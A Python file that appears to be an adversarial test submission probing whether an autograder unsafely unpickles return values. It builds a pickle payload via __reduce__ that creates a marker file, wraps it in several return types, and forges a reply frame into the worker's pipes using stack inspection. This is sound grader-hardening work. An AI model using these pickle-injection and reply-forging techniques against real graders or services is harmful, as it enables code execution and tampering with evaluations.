"""Attack: make the grader unpickle a payload.

A grader that moves return values with pickle (multiprocessing, a naive worker) runs
whatever ``__reduce__`` says when it loads them. The payload here opens the harness's
PWNED file for writing, creating it: that file appearing means code chosen by the
student ran in the grader. Each function returns the payload in a different wrapper;
rnn_b_dloss_dx_depends_on also writes a forged reply frame straight to the reply pipe,
with the request id read from the worker's own stack and an array of dtype "|O" whose
bytes are the pickle. No answer is right, so the honest score is 0.
"""

import json
import os
import pickle
import struct
import sys

import numpy as np

HERE = os.path.dirname(os.path.abspath(__file__))
try:
    with open(os.path.join(HERE, "agconfig.json")) as _stream:
        PWNED = json.load(_stream).get("pwned_path", "/tmp/PWNED_pickle_payload")
except (OSError, ValueError):
    PWNED = "/tmp/PWNED_pickle_payload"


class Payload:
    """Unpickling this calls open(PWNED, "w"): the file appears wherever it is loaded."""

    def __reduce__(self):
        return (open, (PWNED, "w"))


PICKLED = pickle.dumps(Payload(), protocol=2)
# The pickle must only ever run elsewhere: check it really references open().
assert b"open" in PICKLED


def rnn_a_shapes(s_dim=2, x_dim=2, p_dim=2):
    return PICKLED  # raw bytes


def rnn_a_dloss_dx(W_ss, W_sx, W_o, x_t, dloss_dz2):
    holder = np.empty((W_sx.shape[1], 1), dtype=object)
    holder[:] = Payload()
    return holder  # an object array: np.save/pickle would run the payload on load


def rnn_b_shapes(s_dim=2, x_dim=2, p_dim=2):
    return {"W_ssx": bytearray(PICKLED), "W_ox": PICKLED.decode("latin-1")}


def rnn_b_f2(z):
    record = np.zeros(len(z), dtype=[("payload", f"S{len(PICKLED)}")])
    record["payload"] = PICKLED
    return record


def rnn_b_next_input(p_t):
    return Payload()


def _request_id():
    """The id of the request being served, read from the worker's frames."""
    frame = sys._getframe(1)
    while frame is not None:
        for value in frame.f_locals.values():
            if isinstance(value, dict) and value.get("op") == "call" and "id" in value:
                return value["id"]
        frame = frame.f_back
    return None


def _reply_fds():
    fds = []
    for name in os.listdir("/proc/self/fd"):
        try:
            if os.readlink(f"/proc/self/fd/{name}").startswith("pipe:"):
                fds.append(int(name))
        except OSError:
            pass
    return fds


def forged_frame(request_id):
    header = {
        "id": request_id,
        "ok": True,
        "value": [{"$array": 0, "dtype": "|O", "shape": [1]}],
        "printed": "",
    }
    text = json.dumps(header).encode()
    return b"AGW1" + struct.pack(">II", len(text), 1) + text + struct.pack(">Q", len(PICKLED)) + PICKLED


def rnn_b_dloss_dx_depends_on():
    request_id = _request_id()
    frame = forged_frame(request_id)
    for fd in _reply_fds():
        try:
            os.write(fd, frame)
        except OSError:
            pass
    return {"W_ox": PICKLED, "all_W_ox": PICKLED, "W_ssx": PICKLED, "all_W_ssx": PICKLED}
